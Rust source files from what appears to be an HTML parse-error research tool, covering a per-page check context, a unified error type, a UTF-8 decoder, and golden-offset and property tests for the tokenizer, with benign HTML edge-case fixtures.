    /// Full parse: DOM, tokenizer errors, tree events.
    pub parse: ParseOutput,
    /// Checker-relevant start tags, collected streaming from the parse via
    /// the tag sink (the parser itself no longer retains tags).
    start_tags: Vec<Tag>,
    /// Resumable char→byte cursor for [`CheckContext::excerpt`]: findings
    /// arrive in source order, so successive excerpt offsets are monotone
    /// and each call advances from where the last one stopped instead of
    /// re-walking the document head.
    cursor: Cell<(usize, usize)>,
}

impl<'a> CheckContext<'a> {
    /// Parse `raw` and build the context.
    pub fn new(raw: &'a str) -> Self {
        let mut start_tags = Vec::new();
        let parse = spec_html::parse_document_with(raw, &mut |tag| {
            if checker_relevant(tag) {
                start_tags.push(tag.clone());
            }
        });
        CheckContext { raw, parse, start_tags, cursor: Cell::new((0, 0)) }
    }

    /// Build the context from an HTML *fragment* (innerHTML semantics in
    /// the given context element) — how dynamically loaded content is
    /// parsed at runtime. Used by the §5.1 dynamic-content pre-study:
    /// structural checks that need a document head/body (HF1–HF3) cannot
    /// fire here, exactly as in the paper's fragment analysis.
    pub fn fragment(raw: &'a str, context: &str) -> Self {
        let mut start_tags = Vec::new();
        let parse = spec_html::parse_fragment_with_sink(raw, context, &mut |tag| {
            if checker_relevant(tag) {
                start_tags.push(tag.clone());
            }
        });
        CheckContext { raw, parse, start_tags, cursor: Cell::new((0, 0)) }
    }

    /// The checker-relevant start tags of the token stream, in source
    /// order: every tag with at least one attribute, plus every `<body>`
    /// tag. (Attribute-less non-body tags cannot trigger any rule or
    /// mitigation flag and are not collected.)
    pub fn start_tags(&self) -> impl Iterator<Item = &Tag> {
        self.start_tags.iter()
    }

    /// A short excerpt of the source around a character offset, for
    /// evidence strings. Amortized O(excerpt) per call over a page's
    /// findings: the char→byte cursor resumes from the previous offset
    /// (offsets within a page arrive sorted); a backwards offset restarts
    /// from the beginning.
    pub fn excerpt(&self, offset: usize, len: usize) -> String {
        let (mut chars, mut bytes) = self.cursor.get();
        if offset < chars {
            chars = 0;
            bytes = 0;
        }
        for c in self.raw[bytes..].chars() {
            if chars == offset {
                break;
            }
            bytes += c.len_utf8();
            chars += 1;
        }
        self.cursor.set((chars, bytes));
        let mut iter = self.raw[bytes..].chars();
        if chars < offset {
            // Offset past end of document.
            return String::new();
        }
        let mut s = String::with_capacity(len + 4);
        for _ in 0..len {
            match iter.next() {
                Some('\n') => s.push_str("\\n"),
                Some(c) => s.push(c),
                None => return s,
            }
        }
        if iter.next().is_some() {
            s.push('…');
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn context_collects_checker_relevant_tags() {
        // <p> carries no attributes and is not body — streamed past.
        let cx = CheckContext::new("<p><img src=x alt=y></p><body class=c>");
        let tags: Vec<&str> = cx.start_tags().map(|t| t.name.as_str()).collect();
        assert_eq!(tags, vec!["img", "body"]);
    }

    #[test]
    fn bare_body_tag_is_still_collected() {
        let cx = CheckContext::new("<body><body><p>x</p>");
        assert_eq!(cx.start_tags().filter(|t| t.name == "body").count(), 2);
    }

    #[test]
    fn excerpt_clamps_and_escapes() {
        let cx = CheckContext::new("ab\ncd");
        assert_eq!(cx.excerpt(0, 10), "ab\\ncd");
        assert_eq!(cx.excerpt(3, 1), "c…");
        assert_eq!(cx.excerpt(99, 5), "");
    }

    /// The resumable cursor must be invisible: monotone, repeated, and
    /// backwards offsets (and multi-byte chars) all produce exactly what
    /// the old `chars().skip(offset)` formula produced.
    #[test]
    fn excerpt_cursor_matches_naive_skip_in_any_order() {
        let doc = "å<p>\nüñî\ncode</p>🦀 tail";
        let cx = CheckContext::new(doc);
        let naive = |offset: usize, len: usize| {
            let mut iter = doc.chars().skip(offset);
            let mut s = String::new();
            for _ in 0..len {
                match iter.next() {
                    Some('\n') => s.push_str("\\n"),
                    Some(c) => s.push(c),
                    None => return s,
                }
            }
            if iter.next().is_some() {
                s.push('…');
            }
            s
        };
        // Forward, repeated, backwards, at-end, past-end.
        for (off, len) in [(0, 4), (2, 3), (2, 3), (7, 5), (1, 2), (16, 10), (18, 1), (40, 3)] {
            assert_eq!(cx.excerpt(off, len), naive(off, len), "offset {off} len {len}");
        }
    }
}
