//! Shared per-page analysis context.
//!
//! The paper's framework "runs the rules independently of each other"
//! (§3.3); to do that without parsing the page twenty times, a
//! [`CheckContext`] is built once (one full parse) and every checker reads
//! from it.

use spec_html::tokenizer::Tag;
use spec_html::ParseOutput;

/// Everything a checker may inspect about one page.
pub struct CheckContext<'a> {
    /// The raw document text as crawled (after UTF-8 decoding).
    pub raw: &'a str,
    /// Full parse: DOM, tokenizer errors, tree events, token stream.
    pub parse: ParseOutput,
}

impl<'a> CheckContext<'a> {
    /// Parse `raw` and build the context.
    pub fn new(raw: &'a str) -> Self {
        CheckContext { raw, parse: spec_html::parse_document(raw) }
    }

    /// Build the context from an HTML *fragment* (innerHTML semantics in
    /// the given context element) — how dynamically loaded content is
    /// parsed at runtime. Used by the §5.1 dynamic-content pre-study:
    /// structural checks that need a document head/body (HF1–HF3) cannot
    /// fire here, exactly as in the paper's fragment analysis.
    pub fn fragment(raw: &'a str, context: &str) -> Self {
        CheckContext { raw, parse: spec_html::parse_fragment(raw, context) }
    }

    /// All start tags in the token stream.
    pub fn start_tags(&self) -> impl Iterator<Item = &Tag> {
        self.parse.start_tags.iter()
    }

    /// A short excerpt of the source around a character offset, for
    /// evidence strings. O(offset), not O(document): the tail is never
    /// materialized.
    pub fn excerpt(&self, offset: usize, len: usize) -> String {
        let mut iter = self.raw.chars().skip(offset);
        let mut s = String::with_capacity(len + 4);
        for _ in 0..len {
            match iter.next() {
                Some('\n') => s.push_str("\\n"),
                Some(c) => s.push(c),
                None => return s,
            }
        }
        if iter.next().is_some() {
            s.push('…');
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn context_parses_once_and_exposes_tags() {
        let cx = CheckContext::new("<p><img src=x alt=y></p>");
        let tags: Vec<&str> = cx.start_tags().map(|t| t.name.as_str()).collect();
        assert_eq!(tags, vec!["p", "img"]);
    }

    #[test]
    fn excerpt_clamps_and_escapes() {
        let cx = CheckContext::new("ab\ncd");
        assert_eq!(cx.excerpt(0, 10), "ab\\ncd");
        assert_eq!(cx.excerpt(3, 1), "c…");
        assert_eq!(cx.excerpt(99, 5), "");
    }
}
