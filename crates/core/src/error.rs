//! [`HvError`] — the one error type every cross-crate fallible entry
//! point returns.
//!
//! Before the service layer, fallible surfaces were a mix of `String`
//! (CLI plumbing), `io::Result` (store persistence), and per-module
//! enums. A wire API cannot be built on that: the server needs to map
//! *every* failure onto exactly one HTTP status and machine-readable
//! code, in one place. `HvError` is that common currency. It lives in
//! `hv-core` — the root of the workspace dependency DAG — so the
//! pipeline's `ResultStore::load`/`save`, the WARC scanner, and the
//! server's startup path can all return it, and the
//! `html_violations` facade re-exports it from its prelude.
//!
//! The enum is `#[non_exhaustive]`: new failure classes can be added
//! without a breaking release. Downstream matches must carry a wildcard
//! arm, which is exactly what an error-mapping layer wants anyway.

use crate::battery::InputError;
use std::io;
use std::path::{Path, PathBuf};

/// Unified error for the workspace's cross-crate entry points.
///
/// Constructors ([`HvError::parse`], [`HvError::store`], [`HvError::io`],
/// [`HvError::server`]) keep call sites one-liners; `Display` renders a
/// `context: detail` message and [`std::error::Error::source`] exposes the
/// underlying `io::Error` where one exists.
#[derive(Debug)]
#[non_exhaustive]
pub enum HvError {
    /// Structured input that failed parsing: a store's JSON, a WARC
    /// record, a CDX line, a malformed request payload.
    Parse {
        /// What was being parsed ("store JSON", "CheckRequest", …).
        what: String,
        /// Parser-level detail.
        detail: String,
    },
    /// A persisted result store could not be loaded or saved at `path`.
    Store {
        path: PathBuf,
        detail: String,
        /// The underlying I/O failure, when the failure was I/O (a JSON
        /// syntax error has none).
        source: Option<io::Error>,
    },
    /// A persisted binary store failed integrity checking: a truncated
    /// file, a checksum mismatch, a frame that does not parse. Carries the
    /// exact location so `hva store verify` output is actionable.
    StoreCorrupt {
        path: PathBuf,
        /// Segment ordinal (0-based) when the corruption sits inside a
        /// segment block; `None` for the header, trailer, or framing.
        segment: Option<u32>,
        /// Byte offset of the failing structure within the file.
        offset: u64,
        detail: String,
    },
    /// A write would clobber an existing non-empty store at `path`.
    /// Callers must opt in to resuming or overwriting it.
    StoreExists { path: PathBuf },
    /// An I/O failure outside store persistence (reading WARC inputs,
    /// accepting connections, …).
    Io { context: String, source: io::Error },
    /// The HTTP service layer failed outside request handling (bind
    /// error, worker pool wiring, startup store load).
    Server { detail: String },
    /// A document body refused by the input guards (§4.1 UTF-8 filter,
    /// §7 byte budget) — carries the structured [`InputError`].
    Input(InputError),
}

impl HvError {
    /// A parse failure: `what` names the format, `detail` the reason.
    pub fn parse(what: impl Into<String>, detail: impl Into<String>) -> Self {
        HvError::Parse { what: what.into(), detail: detail.into() }
    }

    /// A store persistence failure with no underlying `io::Error`.
    pub fn store(path: &Path, detail: impl Into<String>) -> Self {
        HvError::Store { path: path.to_path_buf(), detail: detail.into(), source: None }
    }

    /// A store persistence failure caused by an `io::Error`.
    pub fn store_io(path: &Path, source: io::Error) -> Self {
        HvError::Store {
            path: path.to_path_buf(),
            detail: source.to_string(),
            source: Some(source),
        }
    }

    /// A store integrity failure at a known byte offset (and segment,
    /// when the corruption is inside one).
    pub fn store_corrupt(
        path: &Path,
        segment: Option<u32>,
        offset: u64,
        detail: impl Into<String>,
    ) -> Self {
        HvError::StoreCorrupt { path: path.to_path_buf(), segment, offset, detail: detail.into() }
    }

    /// A refusal to clobber the existing non-empty store at `path`.
    pub fn store_exists(path: &Path) -> Self {
        HvError::StoreExists { path: path.to_path_buf() }
    }

    /// An I/O failure with a human context ("reading CDXJ index", …).
    pub fn io(context: impl Into<String>, source: io::Error) -> Self {
        HvError::Io { context: context.into(), source }
    }

    /// A service-layer failure.
    pub fn server(detail: impl Into<String>) -> Self {
        HvError::Server { detail: detail.into() }
    }
}

impl std::fmt::Display for HvError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            HvError::Parse { what, detail } => write!(f, "parsing {what}: {detail}"),
            HvError::Store { path, detail, .. } => {
                write!(f, "result store {}: {detail}", path.display())
            }
            HvError::StoreCorrupt { path, segment, offset, detail } => {
                write!(f, "result store {}: corrupt at byte {offset}", path.display())?;
                if let Some(n) = segment {
                    write!(f, " (segment {n})")?;
                }
                write!(f, ": {detail}")
            }
            HvError::StoreExists { path } => write!(
                f,
                "result store {}: already exists (pass --resume to continue it or --overwrite \
                 to replace it)",
                path.display()
            ),
            HvError::Io { context, source } => write!(f, "{context}: {source}"),
            HvError::Server { detail } => write!(f, "server: {detail}"),
            HvError::Input(e) => write!(f, "input rejected: {e}"),
        }
    }
}

impl std::error::Error for HvError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            HvError::Io { source, .. } => Some(source),
            HvError::Store { source: Some(source), .. } => Some(source),
            HvError::Input(e) => Some(e),
            _ => None,
        }
    }
}

impl From<InputError> for HvError {
    fn from(e: InputError) -> Self {
        HvError::Input(e)
    }
}

impl From<io::Error> for HvError {
    fn from(e: io::Error) -> Self {
        HvError::Io { context: "I/O".into(), source: e }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::error::Error as _;

    #[test]
    fn display_carries_context() {
        let e = HvError::parse("store JSON", "expected object, got array");
        assert_eq!(e.to_string(), "parsing store JSON: expected object, got array");
        let e = HvError::server("address already in use");
        assert_eq!(e.to_string(), "server: address already in use");
    }

    #[test]
    fn store_corrupt_names_segment_and_offset() {
        let e = HvError::store_corrupt(Path::new("/tmp/s.hvs"), Some(3), 4096, "crc mismatch");
        assert_eq!(
            e.to_string(),
            "result store /tmp/s.hvs: corrupt at byte 4096 (segment 3): crc mismatch"
        );
        assert!(e.source().is_none());
        let e = HvError::store_corrupt(Path::new("/tmp/s.hvs"), None, 12, "missing trailer");
        assert_eq!(e.to_string(), "result store /tmp/s.hvs: corrupt at byte 12: missing trailer");
    }

    #[test]
    fn store_exists_points_at_the_escape_hatches() {
        let e = HvError::store_exists(Path::new("/tmp/s.hvs"));
        let msg = e.to_string();
        assert!(msg.contains("/tmp/s.hvs"), "{msg}");
        assert!(msg.contains("--resume"), "{msg}");
        assert!(msg.contains("--overwrite"), "{msg}");
        assert!(e.source().is_none());
    }

    #[test]
    fn io_sources_are_exposed() {
        let inner = io::Error::new(io::ErrorKind::NotFound, "gone");
        let e = HvError::io("opening WARC", inner);
        assert!(e.to_string().contains("opening WARC"));
        assert!(e.source().is_some());

        let e = HvError::parse("x", "y");
        assert!(e.source().is_none());

        let e = HvError::store_io(Path::new("/tmp/s.json"), io::Error::other("disk"));
        assert!(e.source().is_some());
        assert!(e.to_string().contains("/tmp/s.json"));
    }

    #[test]
    fn input_errors_convert() {
        let e: HvError = InputError::TooLarge { len: 10, budget: 5 }.into();
        assert!(matches!(e, HvError::Input(InputError::TooLarge { .. })));
        assert!(e.source().is_some());
    }
}
