//! Golden fixture pinning tokenizer + preprocessing error *offsets*.
//!
//! Error offsets are char indices into the *normalized* (post-preprocessing)
//! input stream; the checkers and the report layer key on them, so they must
//! not move when the input-stream/tokenizer internals change. The fixture
//! page deliberately mixes every offset-sensitive construct: CRLF and bare
//! CR (which collapse during normalization, shifting char indices relative
//! to bytes), NUL bytes, control characters, a noncharacter, named/numeric
//! character references (valid, legacy-without-semicolon, and unknown),
//! script data with comment-like content, comments with `--` inside, and
//! multi-byte UTF-8 (ü, 漢) ahead of later errors so char≠byte indices are
//! actually exercised.
//!
//! The expected list below was captured from the pre-batching scalar
//! implementation (PR 1 state) and must stay identical forever.

use spec_html::{tokenize, ErrorCode};

/// The representative page. Built with explicit escapes so every byte is
/// visible; do not reformat.
fn fixture() -> String {
    String::new()
        + "<!DOCTYPE html>\r\n"
        + "<html>\r"
        + "<head>\u{1}<title>T&amp;T gr\u{fc}\u{00df}e</title>\r\n"
        + "<script>var a = 1 < 2; // <b> \r\n<!-- x --></script>\r"
        + "</head>\r\n"
        + "<body>\r\n"
        + "<!-- comment -- dash -->\r\n"
        + "<p class=\"a&ampb\" id='x\u{0}y'>fish &amp chips &unknown; &#x41; &notin; 漢字\u{0}</p>\r\n"
        + "<img src=x alt='y' /extra>\u{fdd0}\r\n"
        + "</body>\r\n"
        + "</html>\r\n"
}

/// (code, char offset) for every error `tokenize` reports, in stream order.
fn expected() -> Vec<(ErrorCode, usize)> {
    vec![
        (ErrorCode::ControlCharacterInInputStream, 29),
        (ErrorCode::NoncharacterInInputStream, 252),
        (ErrorCode::UnexpectedNullCharacter, 173),
        (ErrorCode::MissingSemicolonAfterCharacterReference, 185),
        (ErrorCode::UnknownNamedCharacterReference, 201),
        (ErrorCode::UnexpectedNullCharacter, 220),
        (ErrorCode::UnexpectedSolidusInTag, 246),
    ]
}

#[test]
fn golden_error_offsets_are_pinned() {
    let page = fixture();
    let (tokens, errors) = tokenize(&page);
    let got: Vec<(ErrorCode, usize)> = errors.iter().map(|e| (e.code, e.offset)).collect();
    assert_eq!(got, expected(), "tokenizer/preprocessing error offsets moved");
    // Token-stream shape is pinned too: a moved boundary would change it.
    assert_eq!(tokens.len(), 31, "token count changed: {tokens:#?}");
}

#[test]
fn golden_parse_document_offsets_are_pinned() {
    let page = fixture();
    let out = spec_html::parse_document(&page);
    // parse() sorts by offset; pin the sorted stream.
    let got: Vec<(ErrorCode, usize)> = out.errors.iter().map(|e| (e.code, e.offset)).collect();
    let mut want = expected();
    want.sort_by_key(|&(_, off)| off);
    assert_eq!(got, want, "parse_document error offsets moved");
}

#[test]
#[ignore = "dev tool: run with --ignored --nocapture to regenerate the expected list"]
fn dump_golden() {
    let page = fixture();
    let (tokens, errors) = tokenize(&page);
    for e in &errors {
        println!("(ErrorCode::{:?}, {}),", e.code, e.offset);
    }
    println!("tokens: {}", tokens.len());
}
