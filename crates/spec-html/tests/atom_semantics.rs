//! Atom-vs-string semantic equivalence.
//!
//! The atom-interned pipeline replaces string comparisons with atom
//! comparisons everywhere tag and attribute names flow (tokenizer → tree
//! builder → DOM → checkers), and replaces the string classification
//! predicates in `tags` with O(1) bitset lookups keyed by static-atom id.
//! These tests pin the invariant that makes that rewrite safe: **an atom
//! behaves exactly like the string it interns** — for every entry of the
//! static table, for dynamic (unknown) names, and for the tokenizer's
//! case-normalization.

use proptest::prelude::*;
use spec_html::atoms::STATIC_ATOMS;
use spec_html::tags;
use spec_html::Atom;

/// Every `*_atom` classification predicate must agree with its string
/// reference on every static-table entry (exhaustive: the bitsets are
/// built from the string predicates, so a drifted bit shows up here) and
/// on names outside the table (the fallback path).
#[test]
fn atom_predicates_match_string_predicates_on_every_known_name() {
    #[allow(clippy::type_complexity)]
    let pairs: &[(fn(&Atom) -> bool, fn(&str) -> bool, &str)] = &[
        (tags::is_void_atom, tags::is_void, "is_void"),
        (tags::is_special_atom, tags::is_special, "is_special"),
        (tags::is_formatting_atom, tags::is_formatting, "is_formatting"),
        (tags::is_head_content_atom, tags::is_head_content, "is_head_content"),
        (tags::closes_p_atom, tags::closes_p, "closes_p"),
        (tags::implied_end_tag_atom, tags::implied_end_tag, "implied_end_tag"),
        (tags::is_rcdata_atom, tags::is_rcdata, "is_rcdata"),
        (tags::is_rawtext_atom, tags::is_rawtext, "is_rawtext"),
        (tags::is_foreign_breakout_atom, tags::is_foreign_breakout, "is_foreign_breakout"),
        (
            tags::is_mathml_text_integration_atom,
            tags::is_mathml_text_integration,
            "is_mathml_text_integration",
        ),
        (
            tags::is_svg_html_integration_atom,
            tags::is_svg_html_integration,
            "is_svg_html_integration",
        ),
        (tags::is_url_attribute_atom, tags::is_url_attribute, "is_url_attribute"),
    ];
    let dynamic_names = ["x-custom-widget", "unknownelement", "data-unknown", "svg2"];
    for &(atom_fn, str_fn, label) in pairs {
        for &name in STATIC_ATOMS.iter().chain(dynamic_names.iter()) {
            let atom = Atom::from_name(name);
            assert_eq!(atom_fn(&atom), str_fn(name), "{label}({name:?})");
        }
    }
}

/// The SVG tag-name fixup must agree with its string reference for every
/// known name and for unknown names (which pass through unchanged).
#[test]
fn svg_fixup_atom_matches_string_fixup_on_every_known_name() {
    for &name in STATIC_ATOMS.iter().chain(["x-unknown", "foreignobject"].iter()) {
        let atom = Atom::from_name(name);
        let fixed = tags::svg_tag_fixup_atom(&atom);
        let expected = tags::svg_tag_fixup(name).unwrap_or(name);
        assert_eq!(fixed.as_str(), expected, "svg_tag_fixup({name:?})");
        assert_eq!(fixed, Atom::from_name(expected), "fixup atom equality for {name:?}");
    }
}

/// Every static-table entry round-trips through `Atom::from_name` to a
/// *static* atom that compares equal to the string, hashes like the
/// string, and is equal to an independently created atom of the same name.
#[test]
fn every_known_name_interns_to_an_equal_static_atom() {
    use std::collections::hash_map::DefaultHasher;
    use std::hash::{Hash, Hasher};
    fn hash<H: Hash>(v: &H) -> u64 {
        let mut h = DefaultHasher::new();
        v.hash(&mut h);
        h.finish()
    }
    for &name in STATIC_ATOMS {
        let atom = Atom::from_name(name);
        assert!(atom.static_id().is_some(), "{name:?} must hit the static table");
        assert_eq!(atom.as_str(), name);
        assert_eq!(atom, *name, "PartialEq<str> for {name:?}");
        assert_eq!(atom, Atom::from_name(name));
        assert_eq!(hash(&atom), hash(&Atom::from_name(name)));
    }
}

/// Generates known tag names in mixed case plus arbitrary lowercase
/// ASCII identifiers (mostly unknown to the static table).
fn name_soup() -> impl Strategy<Value = String> {
    let known_mixed_case = (0..STATIC_ATOMS.len(), any::<u64>()).prop_map(|(i, case_mask)| {
        let name = STATIC_ATOMS[i];
        // Names that are not tag-shaped (the empty sentinel, attribute
        // names with '-', camelCase SVG names) would not tokenize as a
        // single tag name; substitute a plain known tag for those.
        let name = if !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        {
            name
        } else {
            "div"
        };
        // Random per-character upper/lowercasing from the mask bits.
        name.bytes()
            .enumerate()
            .map(|(k, b)| {
                if case_mask >> (k % 64) & 1 == 1 {
                    b.to_ascii_uppercase() as char
                } else {
                    b as char
                }
            })
            .collect::<String>()
    });
    prop_oneof![known_mixed_case.boxed(), "[a-z][a-z0-9]{0,12}".boxed()]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Tokenizing `<Name attr=x>` must produce the same tag regardless of
    /// the case the name was written in, and any *known* name must come
    /// out as a static atom — i.e. case normalization happens before
    /// interning, on both the scalar and the batched/fused paths.
    #[test]
    fn tokenized_names_are_case_normalized_before_interning(name in name_soup()) {
        let input = format!("<{name} {name}=v>text</{name}>");
        let out = spec_html::parse_document(&input);
        let lower = name.to_ascii_lowercase();
        let lower_atom = Atom::from_name(&lower);
        let found = out
            .dom
            .all_elements()
            .filter_map(|id| out.dom.element(id))
            .find(|e| e.name == lower_atom);
        if let Some(e) = found {
            prop_assert_eq!(e.name.static_id().is_some(), lower_atom.static_id().is_some());
            // The attribute name was lowercased and interned identically
            // (head/body/html get synthesized without our attribute, and
            // some elements get foster-parented oddly; only check when
            // the attribute survived).
            if let Some(a) = e.attrs.iter().find(|a| a.name == lower_atom) {
                prop_assert_eq!(a.name.static_id().is_some(), lower_atom.static_id().is_some());
                prop_assert_eq!(a.value.as_str(), "v");
            }
        }
    }

    /// Unknown names survive a parse → serialize round trip byte-for-byte
    /// (dynamic atoms preserve their text exactly).
    #[test]
    fn unknown_names_round_trip_through_parse_and_serialize(
        name in "[a-z][a-z0-9]{2,12}-[a-z0-9]{1,8}"
    ) {
        if Atom::from_name(&name).static_id().is_some() {
            // Collided with a real table entry; nothing to test here.
            return Ok(());
        }
        let input = format!("<{name} {name}=\"w\">x</{name}>");
        let out = spec_html::parse_document(&input);
        let html = spec_html::serializer::serialize(&out.dom);
        prop_assert!(
            html.contains(&format!("<{name} {name}=\"w\">x</{name}>")),
            "serialized output {html:?} must preserve {name:?}"
        );
    }
}
