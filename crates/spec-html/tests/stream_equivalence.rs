//! Batched-vs-scalar tokenizer equivalence, and the streaming preprocessor
//! against its eager reference.
//!
//! The batched tokenizer ([`spec_html::tokenize`]) takes SWAR fast paths
//! through Data, RCDATA, RAWTEXT, ScriptData, PLAINTEXT, comment, and
//! quoted-attribute-value states; the scalar tokenizer
//! ([`spec_html::tokenize_scalar`]) walks the pure spec state machine one
//! character at a time. The tentpole contract is *observational identity*:
//! same tokens, same error codes, same char-index offsets, on any input —
//! including inputs that exercise the normalization seams (CR, CRLF, NUL,
//! C0/C1 controls, noncharacters, multi-byte UTF-8) and the batch-path
//! boundaries (`&`, `<`, `-`, quotes).

use proptest::prelude::*;
use spec_html::preprocess::{preprocess, InputStream};
use spec_html::{tokenize, tokenize_scalar};

/// Tokenizer-stressing soup with the characters that distinguish the batch
/// paths from the scalar state machine: run delimiters, CR/CRLF
/// normalization, preprocessing-error bytes, entities, and multi-byte text.
fn stream_soup() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        Just("<".to_owned()),
        Just(">".to_owned()),
        Just("</".to_owned()),
        Just("/>".to_owned()),
        Just("=".to_owned()),
        Just("\"".to_owned()),
        Just("'".to_owned()),
        Just("&".to_owned()),
        Just("&amp".to_owned()),
        Just("&amp;".to_owned()),
        Just("&ampx".to_owned()),
        Just("&notin;".to_owned()),
        Just("&#x41;".to_owned()),
        Just("&#65;".to_owned()),
        Just("&#xD800;".to_owned()),
        Just("<!--".to_owned()),
        Just("-->".to_owned()),
        Just("--!>".to_owned()),
        Just("-".to_owned()),
        Just("<!DOCTYPE html>".to_owned()),
        Just("<!doctype PUBLIC".to_owned()),
        Just("<![CDATA[".to_owned()),
        Just("]]>".to_owned()),
        Just("<div class=\"a b\">".to_owned()),
        Just("<a href='u&v'>".to_owned()),
        Just("<p>".to_owned()),
        Just("<script>".to_owned()),
        Just("</script>".to_owned()),
        Just("<style>".to_owned()),
        Just("</style>".to_owned()),
        Just("<title>".to_owned()),
        Just("</title>".to_owned()),
        Just("<textarea>".to_owned()),
        Just("</textarea>".to_owned()),
        Just("<plaintext>".to_owned()),
        Just("\r".to_owned()),
        Just("\r\n".to_owned()),
        Just("\n".to_owned()),
        Just("\t".to_owned()),
        Just("\0".to_owned()),
        Just("\u{1}".to_owned()),
        Just("\u{B}".to_owned()),
        Just("\u{7F}".to_owned()),
        Just("\u{9D}".to_owned()),
        Just("\u{FDD0}".to_owned()),
        Just("\u{FFFF}".to_owned()),
        Just("ü".to_owned()),
        Just("漢字".to_owned()),
        "[a-zA-Z0-9 ]{0,12}".prop_map(|s| s),
    ];
    proptest::collection::vec(atom, 0..32).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// The SWAR-batched tokenizer and the pure-spec scalar tokenizer are
    /// observationally identical: same token stream, same errors, same
    /// char-index offsets.
    #[test]
    fn batched_tokenizer_matches_scalar(input in stream_soup()) {
        let (batched_tokens, batched_errors) = tokenize(&input);
        let (scalar_tokens, scalar_errors) = tokenize_scalar(&input);
        prop_assert_eq!(batched_tokens, scalar_tokens);
        prop_assert_eq!(batched_errors, scalar_errors);
    }

    /// Draining the streaming preprocessor reproduces the eager reference:
    /// same normalized characters, same preprocessing errors at the same
    /// char offsets.
    #[test]
    fn input_stream_matches_eager_preprocess(input in stream_soup()) {
        let reference = preprocess(&input);
        let mut stream = InputStream::new(&input);
        let mut chars = Vec::new();
        while let Some(c) = stream.next() {
            chars.push(c);
        }
        prop_assert_eq!(chars, reference.chars);
        prop_assert_eq!(stream.take_errors(), reference.errors);
    }

    /// Batched runs interleaved with scalar reads still agree with the
    /// reference — the seam the tokenizer exercises on every `<` and `&`.
    #[test]
    fn interleaved_plain_runs_match_reference(input in stream_soup()) {
        let reference = preprocess(&input);
        let mut stream = InputStream::new(&input);
        let mut chars: Vec<char> = Vec::new();
        loop {
            chars.extend(stream.take_plain_run(b"&<").chars());
            match stream.next() {
                Some(c) => chars.push(c),
                None => break,
            }
        }
        prop_assert_eq!(chars, reference.chars);
        prop_assert_eq!(stream.take_errors(), reference.errors);
    }
}
