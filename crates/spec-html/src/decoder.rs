//! Byte stream decoding (§13.2.3.1, restricted to UTF-8).
//!
//! The paper's framework "filters out documents that are not UTF-8 encodable"
//! (§4.1): supporting the long tail of 45+ legacy encodings would risk
//! mis-decoding and therefore wrong measurements. This module implements the
//! same policy: strict UTF-8 validation with an explicit outcome type, plus a
//! lossy mode for tooling that prefers replacement characters over rejection.

/// Outcome of decoding a byte stream under the study's UTF-8 policy.
///
/// UTF-8 validation does not transform the bytes (beyond BOM stripping), so
/// the success case *borrows* the input — the pipeline parses straight out of
/// the fetched record body with no decode-time copy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decoded<'a> {
    /// The bytes were valid UTF-8 (possibly after BOM removal).
    Utf8(&'a str),
    /// The bytes were not valid UTF-8; the document is excluded from
    /// measurement, mirroring the paper's filter.
    NotUtf8 {
        /// Byte offset of the first invalid sequence.
        valid_up_to: usize,
    },
}

impl<'a> Decoded<'a> {
    /// The decoded text, if the input was clean UTF-8.
    pub fn text(&self) -> Option<&'a str> {
        match self {
            Decoded::Utf8(s) => Some(s),
            Decoded::NotUtf8 { .. } => None,
        }
    }
}

/// Decode `bytes` as UTF-8, stripping a leading byte-order mark if present.
///
/// Returns [`Decoded::NotUtf8`] on any invalid sequence — the caller is
/// expected to drop the document from the measurement, as the paper does.
pub fn decode_utf8(bytes: &[u8]) -> Decoded<'_> {
    let body = strip_bom(bytes);
    match std::str::from_utf8(body) {
        Ok(s) => Decoded::Utf8(s),
        Err(e) => Decoded::NotUtf8 { valid_up_to: e.valid_up_to() },
    }
}

/// Decode `bytes` as UTF-8 with U+FFFD replacement for invalid sequences.
///
/// Used by single-file tooling (`hva check`), never by the measurement
/// pipeline, which must match the paper's strict filter.
pub fn decode_utf8_lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(strip_bom(bytes)).into_owned()
}

/// Whether the byte stream passes the study's inclusion filter.
pub fn is_utf8_clean(bytes: &[u8]) -> bool {
    std::str::from_utf8(strip_bom(bytes)).is_ok()
}

fn strip_bom(bytes: &[u8]) -> &[u8] {
    bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_ascii_decodes() {
        assert_eq!(decode_utf8(b"<p>hi</p>").text(), Some("<p>hi</p>"));
    }

    #[test]
    fn bom_is_stripped() {
        assert_eq!(decode_utf8(b"\xEF\xBB\xBF<p>").text(), Some("<p>"));
    }

    #[test]
    fn latin1_umlaut_is_rejected() {
        // 0xFC is "ü" in ISO-8859-1 but an invalid UTF-8 continuation start.
        let out = decode_utf8(b"<p>gr\xFC\xDFe</p>");
        assert_eq!(out, Decoded::NotUtf8 { valid_up_to: 5 });
        assert!(!is_utf8_clean(b"<p>gr\xFC\xDFe</p>"));
    }

    #[test]
    fn multibyte_utf8_accepted() {
        let s = "<p>grüße 漢字</p>";
        assert_eq!(decode_utf8(s.as_bytes()).text(), Some(s));
    }

    #[test]
    fn lossy_mode_replaces() {
        let s = decode_utf8_lossy(b"a\xFFb");
        assert_eq!(s, "a\u{FFFD}b");
    }
}
