//! # spec-html — a WHATWG-style HTML parsing substrate with parse-error reporting
//!
//! This crate re-implements, from scratch, the parts of the WHATWG HTML
//! parsing algorithm ([HTML Living Standard §13.2]) that the IMC '22 paper
//! *"HTML Violations and Where to Find Them"* builds its violation checkers
//! on. It mirrors the pipeline the paper describes in §2.1:
//!
//! 1. **Byte stream decoder** ([`decoder`]) — decodes the byte stream into
//!    characters (the study restricts itself to UTF-8-decodable documents).
//! 2. **Input stream preprocessor** ([`preprocess`]) — normalizes newlines
//!    (CRLF/CR → LF) and reports control-character/noncharacter errors.
